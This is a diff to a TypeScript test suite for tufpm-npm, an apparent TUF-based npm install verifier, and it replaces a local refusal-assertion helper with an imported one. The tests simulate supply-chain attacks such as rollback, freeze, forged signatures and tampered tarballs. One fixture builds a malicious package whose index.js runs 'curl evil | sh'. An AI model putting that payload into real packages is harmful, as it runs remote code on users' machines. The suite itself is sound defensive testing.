@@ -8,7 +8,8 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { readFile } from 'node:fs/promises';
 import { createAttackWorld, createExpiredTimestampWorld, createSignerWorld, withMixedRoleFile, withOverLengthTimestamp } from '../src/harness/attack-worlds.js';
-import { NpmWorld, type CliResult, type Project } from '../src/harness/npm-world.js';
+import { NpmWorld, type Project } from '../src/harness/npm-world.js';
+import { refusedNpm } from '../src/harness/attacks-graph.js';
 import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';
 
 // The TUF attack list against tufpm-npm (real Arborist in a child process), one test per attack. Every
@@ -17,16 +18,6 @@ import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimA
 
 const evilTarball = (name: string, version: string): Uint8Array =>
   buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });
-
-async function refused(project: Project, args: string[], code: RegExp, attack: RegExp): Promise<CliResult> {
-  const before = await project.state();
-  const res = await project.tufpmNpm(args);
-  assert.equal(res.code, 1, `exit code 1 expected\n${res.stderr}`);
-  assert.match(res.stderr, code);
-  assert.match(res.stderr, attack);
-  assert.deepEqual(await project.state(), before, 'nothing touched');
-  return res;
-}
 
 /** A git repository holding a package (git+file:// needs no network); returns its path. */
 async function gitRepository(world: NpmWorld, name: string): Promise<string> {
@@ -64,9 +55,9 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const attack = await rollbackTargetsPastClaimInWorld(world, 'floored', '1.0.1');
     try {
       // The machine that ran init has the TUF cache; a fresh CI machine has only the committed tufpm-lock.json.
-      await refused(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/, /attack: +rollback/);
+      await refusedNpm(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/, /attack: +rollback/);
       await project.freshMachine();
-      const res = await refused(project, ['install'], /TUF_PIN_ROLLBACK/, /attack: +rollback of targets/);
+      const res = await refusedNpm(project, ['install'], /TUF_PIN_ROLLBACK/, /attack: +rollback of targets/);
       assert.match(res.stderr, /role: +targets/);
       // The attack is real: a project that never ran init takes the forged release on its first install.
       const taken = await bare.tufpmNpm(['install']);
@@ -88,7 +79,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     // The registry (with the offline targets key) drops the claim in a newer targets: above every floor.
     await unclaimAndPublishInBin(world, 'dropclaim', '1.0.1');
     await project.freshMachine();
-    const res = await refused(project, ['install'], /TUF_CLAIM_DROPPED/, /attack: +claim dropped/);
+    const res = await refusedNpm(project, ['install'], /TUF_CLAIM_DROPPED/, /attack: +claim dropped/);
     assert.match(res.stderr, /package: dropclaim@1\.0\.1/);
   });
 
@@ -98,7 +89,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     await world.publish('lefty', '1.0.0', { righty: '^1.0.0' });
     await world.publishUnsigned('righty', '1.1.0');
     const project = await world.project();
-    const res = await refused(project, ['install', 'lefty'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
+    const res = await refusedNpm(project, ['install', 'lefty'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
     assert.match(res.stderr, /package: righty@1\.1\.0/);
   });
 
@@ -110,7 +101,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const forged = await world.publishUnsigned('solo', '1.0.1');
     await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
     const project = await world.project();
-    const res = await refused(project, ['install', 'solo@1.0.1'], /TUF_THRESHOLD/, /attack: +metadata not signed by enough trusted keys/);
+    const res = await refusedNpm(project, ['install', 'solo@1.0.1'], /TUF_THRESHOLD/, /attack: +metadata not signed by enough trusted keys/);
     assert.match(res.stderr, /package: +solo\b/);
   });
 
@@ -118,7 +109,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const forged = await world.publishUnsigned('guarded', '1.0.1');
     await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
     const project = await world.project();
-    await refused(project, ['install', 'guarded@1.0.1'], /TUF_THRESHOLD/, /package: +guarded\b/);
+    await refusedNpm(project, ['install', 'guarded@1.0.1'], /TUF_THRESHOLD/, /package: +guarded\b/);
   });
 
   test('rejects a release signed with a revoked maintainer key', async () => {
@@ -129,7 +120,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const forged = await world.publishUnsigned('rotated', '1.0.1');
     await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
     const project = await world.project();
-    await refused(project, ['install', 'rotated@1.0.1'], /TUF_THRESHOLD/, /package: +rotated\b/);
+    await refusedNpm(project, ['install', 'rotated@1.0.1'], /TUF_THRESHOLD/, /package: +rotated\b/);
   });
 
   test('rejects a snapshot rollback on a fresh machine with pins (ci)', async () => {
@@ -143,7 +134,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     try {
       await world.writeMetadata('timestamp.json', oldTimestamp);
       await project.freshMachine();
-      const res = await refused(project, ['ci'], /TUF_PIN_ROLLBACK/, /attack: +rollback/);
+      const res = await refusedNpm(project, ['ci'], /TUF_PIN_ROLLBACK/, /attack: +rollback/);
       assert.match(res.stderr, /role: +timestamp/);
     } finally {
       await world.writeMetadata('timestamp.json', current);
@@ -158,7 +149,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     // The registry's online keys re-sign other bytes for the same version (an npm version is immutable).
     await world.forgeRoleTarget(role, 'republished', '1.0.0', evilTarball('republished', '1.0.0'), await world.repo.signersFor(role));
     await project.freshMachine();
-    const res = await refused(project, ['ci'], /TUF_PIN_MISMATCH/, /package: republished@1\.0\.0/);
+    const res = await refusedNpm(project, ['ci'], /TUF_PIN_MISMATCH/, /package: republished@1\.0\.0/);
     assert.match(res.stderr, new RegExp(`role: +${role}`));
   });
 
@@ -169,21 +160,21 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const genuine = await project.read('node_modules/kept/index.js');
     await world.replaceTarball('kept', '1.0.0', evilTarball('kept', '1.0.0'));
     await project.freshMachine();
-    await refused(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: kept@1\.0\.0/);
+    await refusedNpm(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: kept@1\.0\.0/);
     assert.equal(await project.read('node_modules/kept/index.js'), genuine);
   });
 
   test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
     await withMixedRoleFile(world, 'mixed', '1.0.1', async () => {
       const project = await world.project();
-      await refused(project, ['install', 'mixed@1.0.1'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package: mixed@1\.0\.1/);
+      await refusedNpm(project, ['install', 'mixed@1.0.1'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package: mixed@1\.0\.1/);
     });
   });
 
   test('rejects over-length metadata (endless data)', async () => {
     await withOverLengthTimestamp(world, async () => {
       const project = await world.project();
-      await refused(project, ['install', 'left'], /TUF_LENGTH/, /attack: +endless data/);
+      await refusedNpm(project, ['install', 'left'], /TUF_LENGTH/, /attack: +endless data/);
     });
   });
 
@@ -193,7 +184,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const lock = JSON.parse((await project.read('package-lock.json'))!) as { packages: Record<string, { integrity: string }> };
     lock.packages['node_modules/right']!.integrity = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
     await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
-    const res = await refused(project, ['ci'], /TUF_LOCK_INTEGRITY/, /attack: +edited package-lock.json integrity/);
+    const res = await refusedNpm(project, ['ci'], /TUF_LOCK_INTEGRITY/, /attack: +edited package-lock.json integrity/);
     assert.match(res.stderr, /package: right@1\.0\.0/);
     assert.equal((await project.tufpmNpm(['verify'])).code, 1, 'verify reports it too');
   });
@@ -203,7 +194,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     await world.publish('host', '1.0.0');
     await world.addPackumentDependency('host', '1.0.0', 'helper', '^1.0.0');
     const project = await world.project();
-    const res = await refused(project, ['install', 'host'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
+    const res = await refusedNpm(project, ['install', 'host'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
     assert.match(res.stderr, /package: host@1\.0\.0/);
     assert.match(res.stderr, /dependencies helper@\^1\.0\.0 is not declared by the signed package/);
   });
@@ -225,7 +216,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     };
     await project.write('package-lock.json', `${JSON.stringify(lock, null, 2)}\n`);
     await project.freshMachine();
-    const res = await refused(project, ['ci'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
+    const res = await refusedNpm(project, ['ci'], /TUF_EXTRANEOUS_DEPENDENCY/, /attack: +extraneous dependencies/);
     assert.match(res.stderr, /package: lock-host@1\.0\.0/);
     assert.ok(!(await project.state()).nodeModules.includes('lock-helper'));
     assert.equal((await project.tufpmNpm(['verify'])).code, 1, 'verify reports it too');
@@ -243,14 +234,14 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     assert.match(verify.stderr, /legacy@1\.0\.0: package-lock.json does not carry the signed sha512/);
     await world.replaceTarball('legacy', '1.0.0', evilTarball('legacy', '1.0.0'));
     await project.freshMachine();
-    await refused(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: legacy@1\.0\.0/);
+    await refusedNpm(project, ['ci'], /TUF_TARBALL_MISMATCH/, /package: legacy@1\.0\.0/);
   });
 
   test('rejects a tampered tarball of an optional dependency (npm would silently skip it)', async () => {
     await world.publish('optional-victim', '1.0.0');
     await world.replaceTarball('optional-victim', '1.0.0', evilTarball('optional-victim', '1.0.0'));
     const project = await world.project({ dependencies: { right: '1.0.0' }, optionalDependencies: { 'optional-victim': '^1.0.0' } });
-    await refused(project, ['install'], /TUF_TARBALL_MISMATCH/, /package: optional-victim@1\.0\.0/);
+    await refusedNpm(project, ['install'], /TUF_TARBALL_MISMATCH/, /package: optional-victim@1\.0\.0/);
     assert.ok(!existsSync(join(project.dir, 'node_modules')));
   });
 
@@ -261,7 +252,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
     const { writeFile } = await import('node:fs/promises');
     await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
     await project.write('package.json', JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { local: `file:${local}` } }));
-    await refused(project, ['install'], /TUF_UNSAFE_SOURCE/, /package: local@1\.0\.0/);
+    await refusedNpm(project, ['install'], /TUF_UNSAFE_SOURCE/, /package: local@1\.0\.0/);
     const allowed = await project.tufpmNpm(['install', '--unsafe-allow-file']);
     assert.equal(allowed.code, 0, allowed.stderr);
     assert.match(allowed.stderr, /unsafe setting in effect: tufpm-unsafe-allow-file/);
@@ -277,7 +268,7 @@ describe('tufpm-npm refuses the TUF attacks', () => {
       const remote = `http://127.0.0.1:${(server.address() as AddressInfo).port}/downloads/right.tgz`;
       for (const [dep, spec, flag] of [['gitdep', `git+file://${repo}`, 'git'], ['right', remote, 'remote']] as const) {
         const other = await world.project({ dependencies: { [dep]: spec } });
-        const res = await refused(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package: +${dep}\\b`));
+        const res = await refusedNpm(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package: +${dep}\\b`));
         assert.match(res.stderr, new RegExp(`unsafe-allow-${flag}`), `names the ${flag} setting`);
       }
     } finally {
@@ -295,7 +286,7 @@ describe('tufpm-npm refuses an expired timestamp (freeze)', () => {
 
   test('rejects an expired timestamp (freeze attack)', async () => {
     const project = await world.project();
-    const res = await refused(project, ['install', 'left'], /TUF_EXPIRED/, /attack: +freeze/);
+    const res = await refusedNpm(project, ['install', 'left'], /TUF_EXPIRED/, /attack: +freeze/);
     assert.match(res.stderr, /timestamp v\d+ expired/, 'the timestamp expiry answered');
   });
 });
@@ -315,7 +306,7 @@ describe('tufpm-npm: who signs a package (maintainers offline, registry online)'
   test('rejects a new version of a claimed package published with every online key (registry compromise)', async () => {
     await publishClaimedWithOnlineKeys(world, 'seized', '1.0.1');
     const project = await world.project();
-    await refused(project, ['install', 'seized'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
+    await refusedNpm(project, ['install', 'seized'], /TUF_PACKAGE_NOT_SIGNED/, /attack: +arbitrary package/);
   });
 
   test('rejects a package maintainer-signed in the pins that is now registry-signed (downgrade)', async () => {
@@ -324,24 +315,24 @@ describe('tufpm-npm: who signs a package (maintainers offline, registry online)'
     assert.equal(first.code, 0, first.stderr);
     assert.equal((await pinsOf(project))['downgraded@1.0.0']!.maintainerSigned, true);
     await unclaimAndPublishInBin(world, 'downgraded', '1.0.1');
-    const res = await refused(project, ['install', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /attack: +downgrade from maintainer signing/);
+    const res = await refusedNpm(project, ['install', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /attack: +downgrade from maintainer signing/);
     assert.match(res.stderr, /downgraded@1\.0\.1/);
   });
 
   test('policy requireMaintainerSigned refuses a registry-signed package', async () => {
     const project = await world.project();
-    await refused(project, ['install', 'right', '--require-maintainer-signed', '*'], /TUF_NOT_MAINTAINER_SIGNED/, /attack: +package not signed by its maintainers/);
+    await refusedNpm(project, ['install', 'right', '--require-maintainer-signed', '*'], /TUF_NOT_MAINTAINER_SIGNED/, /attack: +package not signed by its maintainers/);
     // The same policy from .npmrc, naming packages: a claimed one passes.
     await project.write('.npmrc', `registry=${world.url}\ntufpm-require-maintainer-signed[]=owned\ntufpm-require-maintainer-signed[]=right\n`);
     const ok = await project.tufpmNpm(['install', 'owned']);
     assert.equal(ok.code, 0, `a claimed package passes the policy\n${ok.stderr}`);
-    await refused(project, ['install', 'right'], /TUF_NOT_MAINTAINER_SIGNED/, /right@1\.0\.0 is signed by the registry/);
+    await refusedNpm(project, ['install', 'right'], /TUF_NOT_MAINTAINER_SIGNED/, /right@1\.0\.0 is signed by the registry/);
   });
 
   test('policy minimum threshold refuses a 1-of-1 claimed package when 2 signatures are required', async () => {
     const project = await world.project();
     await project.write('.npmrc', `registry=${world.url}\ntufpm-require-maintainer-signed=*\ntufpm-minimum-threshold=2\n`);
-    await refused(project, ['install', 'owned'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
+    await refusedNpm(project, ['install', 'owned'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
     const ok = await project.tufpmNpm(['install', 'pair']);
     assert.equal(ok.code, 0, `a 2-of-2 package passes\n${ok.stderr}`);
     const lower = await project.tufpmNpm(['install', 'owned', '--minimum-threshold', '1']);
